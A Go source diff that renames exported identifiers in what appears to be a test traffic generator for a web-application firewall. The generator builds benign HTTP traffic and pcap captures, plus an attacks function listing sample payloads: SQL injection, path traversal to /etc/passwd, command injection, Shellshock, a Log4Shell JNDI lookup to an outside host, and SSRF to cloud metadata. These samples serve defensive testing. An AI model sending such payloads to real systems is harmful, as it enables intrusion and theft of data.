@@ -14,26 +14,26 @@ import (
 	"github.com/deepwall/deepwall/internal/testnet"
 )
 
-// Header is one HTTP header field.
-type Header struct{ Name, Value string }
+// header is one HTTP header field.
+type header struct{ Name, Value string }
 
-// Exchange is one HTTP/1.1 request and its response, kept structured so
+// exchange is one HTTP/1.1 request and its response, kept structured so
 // that every system under test sees the same messages: deepwall as frames
 // of a capture or bytes on a socket, Coraza as a transaction.
-type Exchange struct {
+type exchange struct {
 	Method, Target, Host string
-	Headers              []Header // request headers other than Host and Content-Length
+	Headers              []header // request headers other than Host and Content-Length
 	Body                 []byte
 	Status               int
-	RespHeaders          []Header // response headers other than Content-Length
+	RespHeaders          []header // response headers other than Content-Length
 	RespBody             []byte
 	// Attack names the attack category ("sqli", "xss", ...); empty for an
 	// ordinary request.
 	Attack string
 }
 
-// Request renders the request as sent on the wire.
-func (x *Exchange) Request() []byte {
+// request renders the request as sent on the wire.
+func (x *exchange) request() []byte {
 	var b bytes.Buffer
 	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\n", x.Method, x.Target, x.Host)
 	for _, h := range x.Headers {
@@ -47,8 +47,8 @@ func (x *Exchange) Request() []byte {
 	return b.Bytes()
 }
 
-// Response renders the response as sent on the wire.
-func (x *Exchange) Response() []byte {
+// response renders the response as sent on the wire.
+func (x *exchange) response() []byte {
 	var b bytes.Buffer
 	fmt.Fprintf(&b, "HTTP/1.1 %d %s\r\n", x.Status, statusText(x.Status))
 	for _, h := range x.RespHeaders {
@@ -86,26 +86,26 @@ var (
 		"category=books&filter=in_stock%3Dtrue&lang=en-US", "utm_source=google&utm_medium=cpc&utm_campaign=spring_sale"}
 )
 
-// Traffic generates reproducible HTTP exchanges: browser-like requests
+// traffic generates reproducible HTTP exchanges: browser-like requests
 // (query strings, cookies, form and JSON posts) and HTML or JSON responses.
-type Traffic struct {
+type traffic struct {
 	r    *rand.Rand
 	Host string
 }
 
-// NewTraffic returns a generator; the same seed gives the same exchanges.
-func NewTraffic(seed uint64) *Traffic {
-	return &Traffic{r: rand.New(rand.NewPCG(seed, seed^0x5eed)), Host: "shop.example.com"}
+// newTraffic returns a generator; the same seed gives the same exchanges.
+func newTraffic(seed uint64) *traffic {
+	return &traffic{r: rand.New(rand.NewPCG(seed, seed^0x5eed)), Host: "shop.example.com"}
 }
 
-// Request returns an ordinary request without a response.
-func (t *Traffic) Request() *Exchange {
+// request returns an ordinary request without a response.
+func (t *traffic) request() *exchange {
 	r := t.r
-	x := &Exchange{Method: "GET", Host: t.Host, Target: benignPaths[r.IntN(len(benignPaths))]}
+	x := &exchange{Method: "GET", Host: t.Host, Target: benignPaths[r.IntN(len(benignPaths))]}
 	if q := benignQueries[r.IntN(len(benignQueries))]; q != "" {
 		x.Target += "?" + q
 	}
-	x.Headers = []Header{
+	x.Headers = []header{
 		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"},
 		{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
 		{"Accept-Language", "en-US,en;q=0.9,de;q=0.8"},
@@ -118,34 +118,34 @@ func (t *Traffic) Request() *Exchange {
 	case 0:
 		x.Method = "POST"
 		x.Body = []byte("email=jane.doe%40example.com&name=Jane+Doe&message=Where+is+my+order%3F+It+was+due+on+Monday.&subscribe=on")
-		x.Headers = append(x.Headers, Header{"Content-Type", "application/x-www-form-urlencoded"})
+		x.Headers = append(x.Headers, header{"Content-Type", "application/x-www-form-urlencoded"})
 	case 1:
 		x.Method = "POST"
 		x.Body = []byte(`{"items":[{"sku":"A-1234","qty":2},{"sku":"B-9","qty":1}],"coupon":"SPRING24","note":"leave at the door"}`)
-		x.Headers = append(x.Headers, Header{"Content-Type", "application/json"})
+		x.Headers = append(x.Headers, header{"Content-Type", "application/json"})
 	}
 	return x
 }
 
-// Exchange returns an ordinary request with a response whose body is one
+// exchange returns an ordinary request with a response whose body is one
 // of 1, 4, 8, 16 or 48 KiB of HTML or JSON.
-func (t *Traffic) Exchange() *Exchange {
-	x := t.Request()
+func (t *traffic) exchange() *exchange {
+	x := t.request()
 	size := []int{1 << 10, 4 << 10, 8 << 10, 16 << 10, 48 << 10}[t.r.IntN(5)]
 	t.respond(x, size)
 	return x
 }
 
-func (t *Traffic) respond(x *Exchange, size int) {
+func (t *traffic) respond(x *exchange, size int) {
 	ct := "text/html; charset=utf-8"
 	if t.r.IntN(3) == 0 {
 		ct = "application/json"
-		x.RespBody = t.JSON(size)
+		x.RespBody = t.json(size)
 	} else {
-		x.RespBody = t.HTML(size)
+		x.RespBody = t.html(size)
 	}
 	x.Status = 200
-	x.RespHeaders = []Header{
+	x.RespHeaders = []header{
 		{"Server", "nginx/1.25.3"},
 		{"Date", "Thu, 14 Mar 2026 15:09:26 GMT"},
 		{"Content-Type", ct},
@@ -155,8 +155,8 @@ func (t *Traffic) respond(x *Exchange, size int) {
 	}
 }
 
-// HTML returns about size bytes of an HTML page.
-func (t *Traffic) HTML(size int) []byte {
+// html returns about size bytes of an HTML page.
+func (t *traffic) html(size int) []byte {
 	r := t.r
 	var b bytes.Buffer
 	b.WriteString("<!doctype html><html><head><title>Shop</title><link rel=stylesheet href=/static/site.css></head><body>\n")
@@ -172,8 +172,8 @@ func (t *Traffic) HTML(size int) []byte {
 	return b.Bytes()
 }
 
-// JSON returns about size bytes of a JSON search result.
-func (t *Traffic) JSON(size int) []byte {
+// json returns about size bytes of a JSON search result.
+func (t *traffic) json(size int) []byte {
 	r := t.r
 	var b bytes.Buffer
 	b.WriteString(`{"results":[`)
@@ -186,12 +186,12 @@ func (t *Traffic) JSON(size int) []byte {
 	return b.Bytes()
 }
 
-// Attacks returns one request per attack the default pack blocks, in the
+// attacks returns one request per attack the default pack blocks, in the
 // categories of the OWASP Core Rule Set, each with a small response (what
 // a vulnerable application would answer).
-func (t *Traffic) Attacks() []*Exchange {
-	get := func(cat, target string, extra ...Header) *Exchange {
-		x := t.Request()
+func (t *traffic) attacks() []*exchange {
+	get := func(cat, target string, extra ...header) *exchange {
+		x := t.request()
 		x.Method, x.Target, x.Body, x.Attack = "GET", target, nil, cat
 		x.Headers = x.Headers[:5:5]
 	next:
@@ -206,12 +206,12 @@ func (t *Traffic) Attacks() []*Exchange {
 		}
 		return x
 	}
-	post := func(cat, target, ct, body string) *Exchange {
-		x := get(cat, target, Header{"Content-Type", ct})
+	post := func(cat, target, ct, body string) *exchange {
+		x := get(cat, target, header{"Content-Type", ct})
 		x.Method, x.Body = "POST", []byte(body)
 		return x
 	}
-	xs := []*Exchange{
+	xs := []*exchange{
 		get("sqli", "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
 		get("sqli", "/products?id=1%27%20OR%20%271%27%3D%271"),
 		post("sqli", "/api/login", "application/json", `{"user":"admin' --","password":"x"}`),
@@ -220,26 +220,26 @@ func (t *Traffic) Attacks() []*Exchange {
 		get("lfi", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd"),
 		get("lfi", "/.git/config"),
 		get("rce", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
-		get("rce", "/cgi-bin/status", Header{"User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"}),
-		get("java", "/", Header{"X-Api-Version", "${jndi:ldap://203.0.113.9:1389/a}"}),
-		get("scanner", "/", Header{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
+		get("rce", "/cgi-bin/status", header{"User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"}),
+		get("java", "/", header{"X-Api-Version", "${jndi:ldap://203.0.113.9:1389/a}"}),
+		get("scanner", "/", header{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
 		get("ssrf", "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
 	}
 	for _, x := range xs {
 		x.Status = 200
-		x.RespHeaders = []Header{{"Content-Type", "text/html; charset=utf-8"}}
+		x.RespHeaders = []header{{"Content-Type", "text/html; charset=utf-8"}}
 		x.RespBody = []byte("<html><body>ok</body></html>\n")
 	}
 	return xs
 }
 
-// Capture is generated traffic as Ethernet frames, ready for the engine
+// capture is generated traffic as Ethernet frames, ready for the engine
 // (in memory) or for other tools (written as pcap).
-type Capture struct {
-	Frames []CapFrame
+type capture struct {
+	Frames []capFrame
 	// Exchanges are the messages the frames carry, in the order they were
 	// generated; Conns is the number of TCP connections.
-	Exchanges []*Exchange
+	Exchanges []*exchange
 	Conns     int
 	// FrameBytes and PayloadBytes total the frames and their TCP payload.
 	FrameBytes, PayloadBytes int64
@@ -251,16 +251,16 @@ type Capture struct {
 	Span  time.Duration
 }
 
-// CapFrame is one frame of a Capture.
-type CapFrame struct {
+// capFrame is one frame of a capture.
+type capFrame struct {
 	Data     []byte
 	TS       time.Time
 	ToServer bool
 }
 
-// Ingress is the deepwall port the frame would arrive on inline: the
+// ingress is the deepwall port the frame would arrive on inline: the
 // client sits behind the inner port.
-func (f *CapFrame) Ingress() dataplane.Side {
+func (f *capFrame) ingress() dataplane.Side {
 	if f.ToServer {
 		return dataplane.Inner
 	}
@@ -271,17 +271,17 @@ func (f *CapFrame) Ingress() dataplane.Side {
 // TCP options).
 const captureMSS = 1460
 
-// CaptureStart is the time of a generated capture's first frame.
-var CaptureStart = time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC)
+// captureStart is the time of a generated capture's first frame.
+var captureStart = time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC)
 
-// BuildCapture lays out conns keep-alive connections carrying the
+// buildCapture lays out conns keep-alive connections carrying the
 // exchanges round-robin (exchange i on connection i%conns), all
 // connections open at once as on a busy server: handshakes, then the
 // exchanges interleaved across connections, MSS-sized segments, a delayed
 // ACK every two segments, then FIN handshakes.
-func BuildCapture(exchanges []*Exchange, conns int) (*Capture, error) {
-	c := &Capture{Exchanges: exchanges, Conns: conns, Start: CaptureStart, Streams: make([][]byte, 2*conns)}
-	ts := CaptureStart
+func buildCapture(exchanges []*exchange, conns int) (*capture, error) {
+	c := &capture{Exchanges: exchanges, Conns: conns, Start: captureStart, Streams: make([][]byte, 2*conns)}
+	ts := captureStart
 	type conn struct {
 		cli, srv   netip.AddrPort
 		cseq, sseq uint32
@@ -300,7 +300,7 @@ func BuildCapture(exchanges []*Exchange, conns int) (*Capture, error) {
 		if err != nil {
 			return fmt.Errorf("build frame: %w", err)
 		}
-		c.Frames = append(c.Frames, CapFrame{Data: data, TS: ts, ToServer: toServer})
+		c.Frames = append(c.Frames, capFrame{Data: data, TS: ts, ToServer: toServer})
 		c.FrameBytes += int64(len(data))
 		c.PayloadBytes += int64(len(payload))
 		ts = ts.Add(10 * time.Microsecond)
@@ -355,10 +355,10 @@ func BuildCapture(exchanges []*Exchange, conns int) (*Capture, error) {
 	}
 	for j, x := range exchanges {
 		i := j % conns
-		if err := send(i, true, x.Request()); err != nil {
+		if err := send(i, true, x.request()); err != nil {
 			return nil, err
 		}
-		if err := send(i, false, x.Response()); err != nil {
+		if err := send(i, false, x.response()); err != nil {
 			return nil, err
 		}
 	}
@@ -372,12 +372,12 @@ func BuildCapture(exchanges []*Exchange, conns int) (*Capture, error) {
 			}
 		}
 	}
-	c.Span = ts.Sub(CaptureStart)
+	c.Span = ts.Sub(captureStart)
 	return c, nil
 }
 
-// WritePcap writes the capture to path.
-func (c *Capture) WritePcap(path string) error {
+// writePcap writes the capture to path.
+func (c *capture) writePcap(path string) error {
 	w, err := pcapio.Create(path)
 	if err != nil {
 		return err
@@ -391,13 +391,13 @@ func (c *Capture) WritePcap(path string) error {
 	return w.Close()
 }
 
-// HTTPCapture generates exchanges ordinary exchanges over conns
+// httpCapture generates exchanges ordinary exchanges over conns
 // connections from seed.
-func HTTPCapture(seed uint64, conns, exchanges int) (*Capture, error) {
-	t := NewTraffic(seed)
-	xs := make([]*Exchange, exchanges)
+func httpCapture(seed uint64, conns, exchanges int) (*capture, error) {
+	t := newTraffic(seed)
+	xs := make([]*exchange, exchanges)
 	for i := range xs {
-		xs[i] = t.Exchange()
+		xs[i] = t.exchange()
 	}
-	return BuildCapture(xs, conns)
+	return buildCapture(xs, conns)
 }
